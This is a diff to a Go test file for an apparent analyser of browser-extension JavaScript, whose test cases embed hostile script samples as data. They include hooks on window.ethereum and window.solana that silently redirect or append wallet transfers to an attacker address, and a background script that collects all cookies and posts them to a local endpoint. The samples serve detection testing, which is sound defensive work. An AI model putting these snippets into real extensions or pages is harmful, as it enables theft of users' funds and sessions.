@@ -27,6 +27,7 @@ func TestChangedOnTheWay(t *testing.T) {
 		{"proxy for a provider", PageWorld, `window.ethereum = new Proxy(window.ethereum, {get(p, k) { return k === "request" ? q => { q.params[0].to = "` + coin + `"; return p.request(q) } : p[k] }})`, []string{wallet, asked}},
 		{"provider defined", PageWorld, `const real = window.ethereum; Object.defineProperty(window, "ethereum", {value: {request: q => { q.params[0].to = "` + coin + `"; return real.request(q) }}})`, []string{wallet}},
 		{"announced provider", PageWorld, `addEventListener("eip6963:announceProvider", e => { const p = e.detail.provider, ask = p.request; p.request = q => { q.params[0].to = "` + coin + `"; return ask(q) } })`, []string{wallet, asked}},
+		{"made by the page's own constructor", PageWorld, `const p = window.solana, sign = p.signTransaction.bind(p); p.signTransaction = tx => { const Step = tx.instructions[0].constructor, Key = p.publicKey.constructor; tx.add(new Step({keys: [{pubkey: new Key("` + coin + `"), isWritable: true}]})); return sign(tx) }`, []string{wallet, asked}},
 	} {
 		t.Run(c.name, c.run)
 	}
@@ -73,9 +74,9 @@ func TestWordsOfAList(t *testing.T) {
 
 func TestLimitsOfCookies(t *testing.T) {
 	for query, want := range map[string][2]string{
-		`{url}`: {"url=*", `{"url":"*"}`}, `{domain: d}`: {"domain=*", `{"domain":"*"}`}, `{}`: {"", "{}"}, `{domain: undefined}`: {"", "{}"},
+		`{url}`: {"url=*", `{"url":"*"}`}, `{url: tab().url}`: {"", "{}"}, `{domain: d}`: {"domain=*", `{"domain":"*"}`}, `{}`: {"", "{}"}, `{domain: undefined}`: {"", "{}"},
 	} {
-		r := background(t, "bg.js", `chrome.tabs.onActivated.addListener((url, d) => chrome.cookies.getAll(`+query+`, l => fetch("http://127.0.0.1:6800/", {body: l})))`)
+		r := background(t, "bg.js", `let last; chrome.tabs.query({}, l => { last = l[0] }); const tab = () => last; chrome.tabs.onActivated.addListener((url, d) => chrome.cookies.getAll(`+query+`, l => fetch("http://127.0.0.1:6800/", {body: l})))`)
 		i := slices.IndexFunc(r.Flows, func(f Flow) bool { return f.Source == "cookies" })
 		if i < 0 || r.Flows[i].From != want[0] {
 			t.Errorf("%s: flows %+v", query, r.Flows)
@@ -130,5 +131,19 @@ func TestTypedAddresses(t *testing.T) {
 				t.Errorf("party %q, want %q: %v", party, c.want, flowTexts(r))
 			}
 		})
+	}
+}
+
+func TestRequestsToTheSite(t *testing.T) {
+	for _, c := range []flowCase{
+		{"what a server says", Content, `fetch("https://plan.example/next").then(r => r.json()).then(p => fetch(location.origin + "/send", {method: "POST", body: JSON.stringify({to: p.to})}))`, []string{"network(plan.example) > site_request"}},
+		{"to another server", Content, `fetch("https://plan.example/next").then(r => r.json()).then(p => fetch("https://plan.example/done", {method: "POST", body: JSON.stringify({to: p.to})}))`, nil},
+		{"in the background", Background, `fetch("https://plan.example/next").then(r => r.json()).then(p => fetch(base() + "/send", {method: "POST", body: JSON.stringify({to: p.to})}))`, nil},
+	} {
+		t.Run(c.name, c.run)
+	}
+	r := analyzeText(t, testUnit(t, "c.js", Content, `fetch("/send", {method: "POST", body: JSON.stringify({to: to(), coin: "BTC", memo: undefined})})`))
+	if want := `{"method":"POST","body":{"to":"*","coin":"BTC","memo":"*"}}`; len(r.Calls) != 1 || r.Calls[0].Args[1] != want {
+		t.Errorf("calls %+v, want %s", r.Calls, want)
 	}
 }
